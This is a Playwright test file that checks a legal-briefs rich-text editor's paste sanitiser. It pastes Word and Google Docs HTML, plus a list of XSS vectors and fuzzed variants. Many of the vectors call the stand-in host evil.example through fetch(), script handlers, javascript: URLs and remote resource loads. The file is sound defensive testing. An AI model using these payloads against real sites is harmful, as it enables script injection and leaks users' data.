import { expect, type Page } from '@playwright/test'
import fc from 'fast-check'
import { briefBody } from '#shared/areas/briefs/briefs.schema.ts'
import { problemsOf, readDocument } from '#shared/areas/briefs/document.rules.ts'
import { test } from './desk.ts'
import { call, goTo, setUp } from './steps.ts'
import { wordsOf } from './words.ts'

/** What would run: it counts itself, and asks for something from elsewhere. */
const script = "window.ran=(window.ran||0)+1;fetch('https://evil.example/ran')"
const vectors = [
  `<script>${script}</script>`,
  `<img src=x onerror="${script}">`,
  `<img src="https://evil.example/pixel.gif" width=1 height=1>`,
  `<img srcset="https://evil.example/a.png 2x">`,
  `<svg onload="${script}"><script>${script}</script></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  `<link rel=stylesheet href="https://evil.example/s.css"><style>@import 'https://evil.example/i.css'; * { background: url(https://evil.example/b) }</style>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<video src="https://evil.example/v" autoplay onloadstart="${script}"></video><audio src="https://evil.example/a" autoplay></audio>`,
  `<form action="javascript:${script}"><input autofocus onfocus="${script}"><button formaction="javascript:1">x</button></form>`,
  `<details open ontoggle="${script}"><summary>x</summary>y</details>`,
  `<a href="javascript:${script}">trap</a><a href=" java\nscript:${script}">trap</a><a href="data:text/html,<script>1</script>">trap</a>`,
  `<div style="background:url(https://evil.example/d)" onmouseover="${script}">x</div>`,
  `<noscript><p title="</noscript><img src=x onerror='${script}'>"></noscript>`,
  `<template><img src=x onerror="${script}"></template>`,
  `<!--[if gte mso 9]><img src=x onerror="${script}"><![endif]--><!--><img src=x onerror="${script}">-->`,
  `<xmp><img src=x onerror="${script}"></xmp><plaintext>`,
  `<table><td colspan=999999999 rowspan=999999999>wide</td></table>`,
  `<p data-pm-slice='0 0 ["image",{"src":"https://evil.example/x"},"callout",{"tone":"</style>"}]'>x</p>`,
  `<figure data-image-id="https://evil.example/x.png" data-alt="x"></figure><span data-field="client.sin">x</span>`,
  `<div data-callout="<img src=x onerror=${script}>"><span data-footnote data-text="<img src=x onerror=${script}>"></span></div>`,
  `<p style="mso-list:l0 level99 lfo1"><span style="mso-list:Ignore">1.</span><img src=x onerror="${script}"></p>`,
]

const tags = ['p', 'div', 'span', 'b', 'i', 'a', 'ul', 'ol', 'li', 'table', 'tr', 'td', 'th', 'h1', 'h2', 'h5', 'blockquote', 'pre', 'hr', 'br', 'section', 'font', 'o:p', 'figure', 'svg', 'math', 'select', 'caption', 'colgroup', 'frameset']
const attributes = fc.constantFrom('', ' style="font-weight:700"', ' style="mso-list:l1 level3 lfo2"', ' class=MsoTitle', ` onclick="${script}"`, ' href="https://ontario.ca"', ' colspan=7', ' rowspan=3', ' data-callout=help', ' data-guidance', ' data-page-break', ' data-comment=c1', ' data-section=a', ' start=5')
const { hostile } = fc.letrec<{ hostile: string }>((tie) => ({
  hostile: fc.oneof(
    { maxDepth: 7, depthIdentifier: 'tag' },
    fc.constantFrom(...vectors),
    fc.string({ maxLength: 12 }),
    fc.record({ tag: fc.constantFrom(...tags), attribute: attributes, inner: fc.array(tie('hostile'), { maxLength: 3 }), closed: fc.boolean() })
      .map(({ tag, attribute, inner, closed }) => `<${tag}${attribute}>${inner.join('')}${closed ? `</${tag}>` : ''}`),
  ),
}))
const deep = ['div', 'blockquote', 'ul><li', 'table><tr><td', 'b'].map((tag) => `${`<${tag}>`.repeat(400)}deep words`)

/** Pastes each into an empty text, and tells what the text then is. */
async function pasteAll(page: Page, all: readonly string[]): Promise<unknown[]> {
  return page.evaluate((cases) => {
    const text = document.querySelector('.ProseMirror') as HTMLElement & { editor: { commands: { clearContent(): void; focus(): void }; getJSON(): unknown } }
    return cases.map((html) => {
      text.editor.commands.clearContent()
      const clipboardData = new DataTransfer()
      clipboardData.setData('text/html', html)
      text.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
      return text.editor.getJSON()
    })
  }, all)
}

const word = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0}</style><!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]--></head><body>
<p class=MsoTitle>Heat</p><p class=MsoNormal><o:p>&nbsp;</o:p></p><h4>Why</h4><p class=MsoNormal>The <b>rule</b> says <st1:place>Toronto</st1:place> <span style='font-style:italic'>must</span> act.<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>1.<span>&nbsp;&nbsp;</span></span><![endif]>Call</p>
<p class=MsoListParagraphCxSpMiddle style='mso-list:l0 level2 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp;</span></span><![endif]>by phone</p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>2.<span>&nbsp;</span></span><![endif]>Write</p>
<table class=MsoTable><tr><td width=200 colspan=2 style='border:solid'><p class=MsoNormal>Both</p></td></tr><tr><td>A</td><td>B</td></tr></table><img src="file:///C:/x.png"></body></html>`
const google = `<meta charset=utf-8><b style="font-weight:normal" id="docs-internal-guid-1"><p dir=ltr style="line-height:1.38"><span style="font-weight:700">Bold</span><span style="font-weight:400"> plain</span></p><ul><li><p>One</p></li></ul></b>`

/** A text in a line for each block, marked as little as tells what it is. */
function outline(node: any, depth = 0): string[] {
  const words = (node.content ?? []).filter(({ type }: any) => type === 'text').map(({ text, marks }: any) => `${(marks ?? []).map(({ type }: any) => `${type}:`).join('')}${text}`)
  const blocks = (node.content ?? []).filter(({ type }: any) => type !== 'text')
  return [`${' '.repeat(depth)}${node.type}${words.length > 0 ? ` ${words.join('|')}` : ''}`, ...blocks.flatMap((one: any) => outline(one, depth + 1))]
}

test('what is pasted is cleaned: of hostile pages nothing runs, nothing is fetched, and what is left can be stored; of Word and Google the shape stays', async ({ deskFolder }) => {
  const words = wordsOf('en-CA')
  const { page } = await deskFolder.open('en-CA')
  await setUp(page, words, 'Harbour Legal Clinic')
  await goTo(page, words, 'briefs')
  const { id } = await call(page, 'briefs/createFromTemplate', { templateId: 'fact-sheet.en-CA', title: 'Pasted' })
  await page.goto(new URL(`/briefs/${id}`, page.url()).href)
  await page.locator('.ProseMirror').click()
  const outside: string[] = []
  page.on('request', (request) => new URL(request.url()).hostname === '127.0.0.1' || outside.push(request.url()))
  page.on('dialog', (dialog) => void outside.push(dialog.message()))
  await page.evaluate(() => document.addEventListener('securitypolicyviolation', (event) => ((window as any).refused ??= []).push(event.blockedURI)))

  await test.step('hundreds of hostile pages', async () => {
    const cases = [...vectors, ...deep, ...fc.sample(hostile, 400)]
    for (let from = 0; from < cases.length; from += 50) {
      const some = cases.slice(from, from + 50)
      for (const [index, json] of (await pasteAll(page, some)).entries()) {
        expect(problemsOf(briefBody.parse(json)), some[index]).toEqual([])
        expect(problemsOf(readDocument(json)), some[index]).toEqual([])
        expect(JSON.stringify(readDocument(json)), some[index]).not.toMatch(/"href":"(?!https?:|mailto:|tel:)/)
      }
    }
    await page.waitForTimeout(500)
    expect(await page.evaluate(() => [(window as any).ran, (window as any).refused])).toEqual([undefined, undefined])
    expect(outside).toEqual([])
  })

  await test.step('Word and Google Docs', async () => {
    await page.reload()
    await page.locator('.ProseMirror').click()
    const [fromWord, fromGoogle] = (await pasteAll(page, [word, google])).map((json) => outline(readDocument(json)))
    expect(fromWord).toEqual([
      'doc', ' heading Heat', ' heading Why', ' paragraph The |bold:rule| says Toronto |italic:must| act.',
      ' orderedList', '  listItem', '   paragraph Call', '   bulletList', '    listItem', '     paragraph by phone', '  listItem', '   paragraph Write',
      ' table', '  tableRow', '   tableCell', '    paragraph Both', '  tableRow', '   tableCell', '    paragraph A', '   tableCell', '    paragraph B',
    ])
    expect(fromGoogle).toEqual(['doc', ' paragraph bold:Bold| plain', ' bulletList', '  listItem', '   paragraph One'])
    await expect(page.getByText(words('briefEditor', 'paste.pictures_one', { count: 1 }))).toBeVisible()
  })
})
